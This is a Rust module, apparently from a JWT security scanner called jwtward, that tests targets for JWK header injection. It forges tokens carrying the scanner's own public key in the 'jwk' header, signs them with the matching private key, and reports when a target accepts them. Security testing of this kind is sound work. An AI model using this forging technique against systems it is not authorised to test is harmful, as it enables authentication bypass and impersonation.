//! An embedded `jwk` header holding jwtward's own public key.

use crate::context::{Ctx, State, diff_note, differential, random_payload};
use crate::rules::JWK_HEADER_INJECTION;
use jwtward_jose::{Alg, Jws, Key};
use serde_json::Value;

pub async fn run(ctx: &Ctx, st: &State) {
    let Some(jws) = ctx.jws() else { return };
    let mut keys: Vec<(&Key, Alg)> = vec![(&ctx.attacker_ec, Alg::ES256)];
    if let Some(r) = &ctx.attacker_rsa {
        // RS256 first when the token is RSA-signed; otherwise only on representatives.
        let rsa_token = ctx.token.as_ref().and_then(|t| t.alg()).is_some_and(|a| {
            matches!(
                a,
                Alg::RS256 | Alg::RS384 | Alg::RS512 | Alg::PS256 | Alg::PS384 | Alg::PS512
            )
        });
        if rsa_token {
            keys.insert(0, (r, Alg::RS256));
        } else if st.rep {
            keys.push((r, Alg::RS256));
        }
    }
    for (key, alg) in keys {
        let make = |base: &Jws| {
            let mut h = base.header().clone();
            if let Some(o) = h.as_object_mut() {
                o.insert("alg".into(), Value::String(alg.as_str().into()));
                o.insert("jwk".into(), key.to_public_jwk());
                o.shift_remove("kid");
                o.shift_remove("jku");
            }
            base.with_header(&h)
                .signed(alg, key)
                .ok()
                .map(|j| j.to_compact())
        };
        let Some(token) = make(jws) else { continue };
        let Some((v, req, resp)) = ctx.attack(st, &token, "jwk").await else {
            return;
        };
        if v.accepted() {
            let d = differential(ctx, st, make(&random_payload(ctx, jws))).await;
            ctx.report(
                st,
                &JWK_HEADER_INJECTION,
                format!(
                    "accepts a token signed ({alg}) with jwtward's own key, embedded in its `jwk` header{}",
                    diff_note(d.as_ref(), "sub")
                ),
                &req,
                &resp,
            );
            return;
        }
    }
}
